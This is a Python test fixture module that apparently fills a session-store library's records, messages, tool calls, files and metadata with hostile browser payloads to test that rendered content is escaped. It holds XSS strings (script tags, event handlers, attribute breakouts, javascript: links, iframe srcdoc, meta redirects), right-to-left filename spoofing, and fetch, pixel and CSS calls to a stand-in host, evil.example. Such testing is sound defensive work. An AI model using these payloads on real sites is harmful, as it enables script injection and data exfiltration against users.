"""A store with everything that could make a browser do something."""

from __future__ import annotations

from typing import Any

from sessionbucket import Conversation, MemoryBucket, Message, SessionStore
from sessionbucket.models import (
    ArtifactStore,
    ImageBlock,
    SessionConfig,
    SessionData,
    Task,
    TextBlock,
    ToolArtifact,
    ToolResultBlock,
    ToolUseBlock,
    TraceEvent,
    VerificationCheck,
    VerificationReport,
)

PAYLOADS = {
    "script": "<script>document.title='pwned';fetch('http://evil.example/x')</script>",
    "handler": "<img src=x onerror=\"document.title='pwned'\">",
    "svg": "<svg onload=\"document.title='pwned'\"><script>document.title='pwned'</script></svg>",
    "attribute": '" autofocus onfocus="document.title=\'pwned\'" x="',
    "single": "' onmouseover='document.title=1' x='",
    "markdown": "[click](javascript:document.title='pwned') ![x](http://evil.example/pixel.png)",
    "close": "</pre></div></main></body></html><script>document.title='pwned'</script>",
    "template": "{{ 7 * 7 }}{% raw %}${document.title='pwned'}",
    "rtl": "invoice\u202egnp.exe \u2066 \u200f \u061c",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe><base href=//evil.example>",
    "style": "<style>body{background:url(http://evil.example/css)}</style><link rel=stylesheet href=//evil.example>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example'><form action=//evil.example><button autofocus>",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020000 é",
}


RUNNING = ("script", "handler", "svg", "attribute", "style")
"""The payloads that run in a page without defences, and do not leave it."""


def running_store() -> SessionStore[SessionData]:
    """A store with one session, ``hostile``, of payloads that run."""
    store = SessionStore(MemoryBucket())
    messages = [Message.user(PAYLOADS[name]) for name in RUNNING]
    store.save(
        SessionData(
            id="hostile", config=SessionConfig(name="A name"), messages=messages, created_at=1_700_000_000
        )
    )
    return store


def hostile_session(id: str = "hostile") -> SessionData:
    every = list(PAYLOADS.values())
    session = SessionData(
        id=id,
        config=SessionConfig(
            name=PAYLOADS["script"], workspace=PAYLOADS["handler"], system_prompt=PAYLOADS["close"]
        ),
        principal=PAYLOADS["attribute"],
        tenant_id=PAYLOADS["svg"],
        model_name=PAYLOADS["handler"],
        parent_id=PAYLOADS["script"],
        tags=every,
        correlation_id=PAYLOADS["frame"],
        created_at=1_700_000_000,
    )
    session.tasks = [Task(id=PAYLOADS["script"], content=PAYLOADS["handler"])]
    for payload in every:
        name = {payload: payload}
        session.messages += [
            Message.user(payload),
            Message(
                role="assistant",
                content=[
                    TextBlock(text=payload),
                    ToolUseBlock(id=payload, name=payload, input={**name, "nested": [name]}),
                    ToolUseBlock(id="plain" + payload, name=payload, input=name),
                    ImageBlock.model_validate({"source": {"media_type": payload, "data": payload}}),
                    ImageBlock.model_validate(
                        {"source": {"media_type": "image/svg+xml", "data": "PHN2Zy8+"}}
                    ),
                ],
                reasoning_content=payload,
            ),
            Message(
                role="user", content=[ToolResultBlock(tool_use_id=payload, content=payload, is_error=True)]
            ),
            Message(role=payload, content=payload),
        ]
    session.messages.append(Message.user("one line " * 1_111_111))
    return session


def hostile_store() -> SessionStore[SessionData]:
    """A store in memory whose every text is hostile."""
    store = SessionStore(MemoryBucket(keep_versions=True))
    session = hostile_session()
    store.save(session)
    session.messages.pop()
    session.config.name = PAYLOADS["svg"]
    store.save(session)
    events, reports, artifacts = [], [], []
    for number, payload in enumerate(PAYLOADS.values()):
        details: Any = {payload: payload}
        event = TraceEvent.program_execution(
            payload,
            success=False,
            exit_code=1,
            duration=1,
            output_bytes=1,
            metadata={payload: 1, "trace": {"program_name": payload}},
        )
        events.append(event.model_copy(update={"details": details}))
        check = VerificationCheck.required_check(payload, payload, payload)
        report = VerificationReport.new(payload, [check])
        report.add_residual_risk(payload)
        reports.append(report)
        artifacts.append(
            ToolArtifact(
                artifact_id=payload,
                artifact_uri=f"{number}{payload}",
                tool_name=payload,
                content=payload,
                original_bytes=1,
                shown_bytes=1,
            )
        )
        store.put_file(
            "hostile", f"{number} {payload.replace('/', '')}"[:60], payload.encode(), content_type="text/html"
        )
        store.save(SessionData(id=payload[:40], config=SessionConfig(name=payload), created_at=1_700_000_000))
    store.save_trace_events("hostile", events)
    store.save_verification_reports("hostile", reports)
    store.save_artifacts("hostile", ArtifactStore(artifacts=artifacts))
    messages: list[dict[str, Any]] = [
        {"role": payload, "content": payload, payload: payload, "timestamp": payload}
        for payload in PAYLOADS.values()
    ]
    messages += [
        {"type": payload, "parts": [{"type": payload, payload: {payload: payload}}]}
        for payload in PAYLOADS.values()
    ]
    conversations = SessionStore(store.bucket, model=Conversation)
    conversations.save(
        Conversation(
            id="hostile-conversation",
            title=PAYLOADS["script"],
            messages=messages,
            metadata={PAYLOADS["svg"]: 1},
        )
    )
    store.bucket.put("hostile-bytes.json", PAYLOADS["script"].encode())
    return store
